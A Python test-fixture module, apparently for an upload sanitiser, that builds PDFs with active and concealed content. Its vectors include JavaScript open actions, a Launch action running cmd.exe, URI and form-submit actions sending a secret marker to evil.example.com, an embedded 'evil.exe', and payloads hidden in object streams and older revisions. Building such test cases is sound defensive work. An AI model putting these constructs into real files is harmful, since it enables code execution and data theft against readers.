"""PDFs that act, point elsewhere, carry other files, or say more than their pages show."""

import io

import pikepdf
from pikepdf import Dictionary, Name, Pdf

from tests.uploads.files import pictures
from tests.uploads.files.case import SECRET, Case, rewritten
from tests.uploads.files.writing import BOX, WORDS, annotated, page, stream, write

SAID = SECRET.decode()
JS = f"<< /S /JavaScript /JS (app.alert\\('{SAID}'\\)) >>"
LAUNCH = f"<< /S /Launch /F (cmd.exe {SAID}) /Win << /F (cmd.exe) /P ({SAID}) >> >>"
URI = f"<< /S /URI /URI (https://evil.example.com/{SAID}) >>"
SUBMIT = f"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example.com/{SAID}) >> >>"
RECT = "/Rect [10 10 100 40]"
FILE = f"<< /Type /Filespec /F ({SAID}.exe) /UF ({SAID}.exe) /EF << /F 9 0 R /UF 9 0 R >> >>"
CARRIED = stream(b"MZ" + SECRET, "/Type /EmbeddedFile /Subtype /application#2Fx-msdownload")
LOOK = stream(b"0 0 1 rg 0 0 90 30 re f", "/Type /XObject /Subtype /Form /BBox [0 0 90 30]")


def acting(action: str) -> bytes:
    """A link with an action, and something to see."""
    return annotated(f"<< /Type /Annot /Subtype /Link {RECT} /A {action} /AP << /N 9 0 R >> >>", _9=LOOK)


def noted(subtype: str, entries: str) -> bytes:
    """Any other annotation, with an object 9 to point at."""
    return annotated(f"<< /Type /Annot /Subtype /{subtype} {RECT} {entries} >>", _9=CARRIED)


def field(entries: str, form: str = "") -> bytes:
    """A form with one field."""
    widget = f"<< /Type /Annot /Subtype /Widget {RECT} /FT /Tx /T (a) /V (typed) {entries} /AP << /N 9 0 R >> >>"
    return annotated(widget, root=f"/AcroForm << /Fields [20 0 R] {form} >>", _9=LOOK)


def hidden_in_object_stream() -> bytes:
    """Everything active inside a packed stream of objects, where a search for words finds nothing."""
    return through_library(acting(LAUNCH), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def through_library(data: bytes, **options: object) -> bytes:
    """The same file written by a library."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, **options)
    return out.getvalue()


def updated() -> bytes:
    """A page that replaced an older one, which is still in the file."""
    older = page(content=f"BT /F1 18 Tf 20 150 Td ({SAID}) Tj ET")
    table = older.rindex(b"startxref") + 10
    newer = b"4 0 obj\n" + stream(WORDS) + b"\nendobj\n"
    at = len(older) + len(newer)
    xref = b"xref\n4 1\n%010d 00000 n \n" % len(older)
    back = int(older[table : older.index(b"\n", table)])
    trailer = b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (back, at)
    return older + newer + xref + trailer


def photographed() -> bytes:
    """A scan whose photograph says where it was taken."""
    image = stream(
        pictures.talkative(),
        "/Type /XObject /Subtype /Image /Width 120 /Height 80 "
        "/BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode "
        "/Metadata 11 0 R /Alternates [<< /Image 11 0 R >>]",
    )
    return page(
        content="300 0 0 200 0 0 cm /I Do",
        resources="/XObject << /I 10 0 R >>",
        _10=image,
        _11=stream(SECRET, "/Type /Metadata /Subtype /XML"),
    )


def outside() -> bytes:
    """A picture that would be read from another place."""
    entries = (
        f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F ({SAID})"
    )
    return page(content=f"{WORDS} /I Do", resources="/XObject << /I 10 0 R >>", _10=stream(b"\x80", entries))


def attached() -> bytes:
    """A file attached by a library, as office programs do."""
    pdf = Pdf.open(io.BytesIO(page()))
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(  # type: ignore[call-arg]  # its stub knows no defaults
        pdf, SECRET
    )
    pdf.Root.Collection = Dictionary(Type=Name.Collection)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def layered() -> bytes:
    """Words in a layer that is switched off: they are shown."""
    return page(
        root=f"/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] /AS [<< /Event /View /Category [/{SAID}] >>] >> >>",
        resources="/Properties << /L 10 0 R >>",
        content=f"/OC /L BDC {WORDS} EMC",
        _10=f"<< /Type /OCG /Name ({SAID}) >>",
    )


ACTIVE: list[Case] = rewritten(
    opens_with_script__pdf=lambda: page(root=f"/OpenAction {JS}"),
    opens_with_launch__pdf=lambda: page(root=f"/OpenAction {LAUNCH}"),
    script_by_name__pdf=lambda: page(root=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
    script_on_close__pdf=lambda: page(root=f"/AA << /WC {JS} /WS {JS} /DP {JS} >>"),
    script_on_page__pdf=lambda: page(entries=f"/AA << /O {JS} /C {URI} >>"),
    script_in_stream__pdf=lambda: page(root="/OpenAction << /S /JavaScript /JS 9 0 R >>", _9=stream(SECRET)),
    script_after_script__pdf=lambda: page(root=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [{JS} {LAUNCH}] >>"),
    script_in_link__pdf=lambda: acting(JS),
    launch__pdf=lambda: acting(LAUNCH),
    link__pdf=lambda: acting(URI),
    submit__pdf=lambda: acting(SUBMIT),
    import_data__pdf=lambda: acting(f"<< /S /ImportData /F ({SAID}) >>"),
    goto_other__pdf=lambda: acting(f"<< /S /GoToR /F ({SAID}.pdf) /D [0 /Fit] >>"),
    goto_embedded__pdf=lambda: acting(f"<< /S /GoToE /F ({SAID}.pdf) /T << /R /C /N ({SAID}) >> >>"),
    thread__pdf=lambda: page(
        root=f"/Threads [<< /Type /Thread /I << /Title ({SAID}) >> >>]",
        entries="/B [9 0 R]",
        _9=f"<< /Type /Bead /Title ({SAID}) >>",
    ),
    hide__pdf=lambda: acting(f"<< /S /Hide /T ({SAID}) >>"),
    layers_by_action__pdf=lambda: acting(f"<< /S /SetOCGState /State [/ON] /Next {JS} >>"),
    base_address__pdf=lambda: page(root=f"/URI << /Base (https://evil.example.com/{SAID}) >>"),
    hidden_objects__pdf=hidden_in_object_stream,
    script_in_field__pdf=lambda: field(f"/AA << /K {JS} /F {JS} /V {JS} /C {JS} >>"),
    form_order__pdf=lambda: field("", f"/CO [20 0 R] /XFA (<xdp>{SAID}</xdp>) /NeedAppearances false"),
    xfa__pdf=lambda: field(f"/TU ({SAID})", f"/XFA [(template) ({SAID}) (datasets) 9 0 R]"),
    signature__pdf=lambda: field(f"/FT /Sig /V << /Type /Sig /Contents ({SAID}) /Name ({SAID}) >>"),
    embedded_by_name__pdf=lambda: page(root=f"/Names << /EmbeddedFiles << /Names [(a) {FILE}] >> >>", _9=CARRIED),
    embedded_by_af__pdf=lambda: page(root=f"/AF [{FILE}]", entries=f"/AF [{FILE}]", _9=CARRIED),
    attached__pdf=attached,
    attached_note__pdf=lambda: noted("FileAttachment", f"/FS {FILE} /Contents ({SAID})"),
    rich_media__pdf=lambda: noted("RichMedia", f"/RichMediaContent << /Assets << /Names [(a) {FILE}] >> >>"),
    movie__pdf=lambda: noted("Movie", f"/Movie << /F ({SAID}.avi) >>"),
    sound__pdf=lambda: noted("Sound", "/Sound 9 0 R"),
    screen__pdf=lambda: noted("Screen", f"/A << /S /Rendition /OP 0 /JS ({SAID}) /R << /S /MR /C 9 0 R >> >>"),
    three_d__pdf=lambda: noted("3D", f"/3DD 9 0 R /3DV << /IN ({SAID}) >>"),
    note__pdf=lambda: noted("Text", f"/Contents ({SAID}) /T ({SAID}) /RC (<p>{SAID}</p>)"),
    metadata__pdf=lambda: page(
        root="/Metadata 9 0 R /Lang (x)",
        entries=f"/Metadata 9 0 R /PieceInfo << /A << /Private ({SAID}) >> >>",
        trailer=f"/Info << /Author ({SAID}) /Title ({SAID}) >>",
        _9=stream(SECRET, "/Type /Metadata /Subtype /XML"),
    ),
    structure__pdf=lambda: page(root=f"/StructTreeRoot << /K << /S /P /ActualText ({SAID}) /Alt ({SAID}) >> >>"),
    outline__pdf=lambda: page(root="/Outlines 9 0 R", _9="<< /First 10 0 R >>", _10=f"<< /Title ({SAID}) /A {JS} >>"),
    updated__pdf=updated,
    unused_objects__pdf=lambda: page(_30=JS, _31=stream(SECRET)),
    photographed__pdf=photographed,
    outside__pdf=outside,
    layered__pdf=layered,
    postscript_inside__pdf=lambda: page(
        content=f"{WORDS} /P Do",
        resources="/XObject << /P 10 0 R >>",
        _10=stream(SECRET, "/Type /XObject /Subtype /PS"),
    ),
    words_in_odd_places__pdf=lambda: page(
        entries=f"/Resources2 ({SAID}) /Rotate ({SAID}) /UserUnit ({SAID}) /Group << /S /Transparency /X ({SAID}) >>",
        resources=f"/ExtGState << /G << /BM ({SAID}) /ca .5 /Secret ({SAID}) >> >> /ProcSet [({SAID})]",
    ),
    inherited__pdf=lambda: write(
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Kids [3 0 R] /Count 1 /AA << /O {JS} >> {BOX} "
            "/Resources << /Font << /F1 5 0 R >> >> >>",
            3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
            4: stream(WORDS),
            5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
    ),
)
